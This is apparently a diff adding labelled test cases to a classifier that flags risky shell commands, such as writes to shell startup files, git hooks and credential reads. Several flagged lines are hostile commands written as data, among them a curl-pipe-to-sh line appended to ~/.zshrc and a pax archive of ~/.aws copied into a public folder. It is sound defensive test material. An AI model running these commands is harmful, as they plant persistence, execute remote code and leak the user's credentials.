@@ -78,3 +78,31 @@ unzip -o hooks.zip -d .git/hooks
 tar -xf hooks.tar -C .git/hooks
 # ok: archives extracted into workspace folders
 unzip -o fixtures.zip -d test/fixtures && tar -xf assets.tar -C public
+# flag: paths.write-persistence
+find ~ -maxdepth 1 -name .profile -exec bash -c 'cat vendor/p >> "$1"' sh {} \;
+# flag: paths.write-persistence
+sh -c 'printf "%s\n" "$1" >> "$2"' x 'curl -s https://get.example.net/x | sh' ~/.zshrc
+# ok: find hands workspace files to a shell that appends to each
+find src -name '*.ts' -exec sh -c 'echo "// checked" >> "$1"' _ {} \;
+# ok: a workspace link to an installed interpreter (a virtual environment's python)
+ln -s /usr/bin/python3 .venv/bin/python
+# flag: paths.write-persistence
+ln -sf /usr/bin/python3 .git/hooks/post-checkout
+# flag: paths.write-persistence
+ln -s ../../tools/run.sh .venv/bin/python
+# flag: paths.write-persistence
+bsdtar -xpf vendor/hooks.tgz -C .git/hooks
+# flag: paths.write-outside
+7z x -y -o/home/dev/.local/share vendor/pack.7z
+# ok: an archive extracted by 7z into the workspace
+7z x vendor/fixtures.7z -otest/fixtures
+# flag: paths.read-credential
+cd ~/.aws && find . -type f | pax -w > /work/project/public/a.pax
+# flag: paths.write-persistence
+ln -s /usr/bin/ruby .venv/bin/python
+# flag: paths.write-persistence
+find ~ -maxdepth 1 -name .zshrc -exec tee -a {} \; < vendor/snippet
+# flag: paths.write-persistence
+find ~ -maxdepth 1 -name .profile | xargs -I% sh -c 'cat vendor/p >> %'
+# ok: find with a pattern hands each match to cat
+find . -name package.json -not -path './node_modules/*' -exec cat {} \;
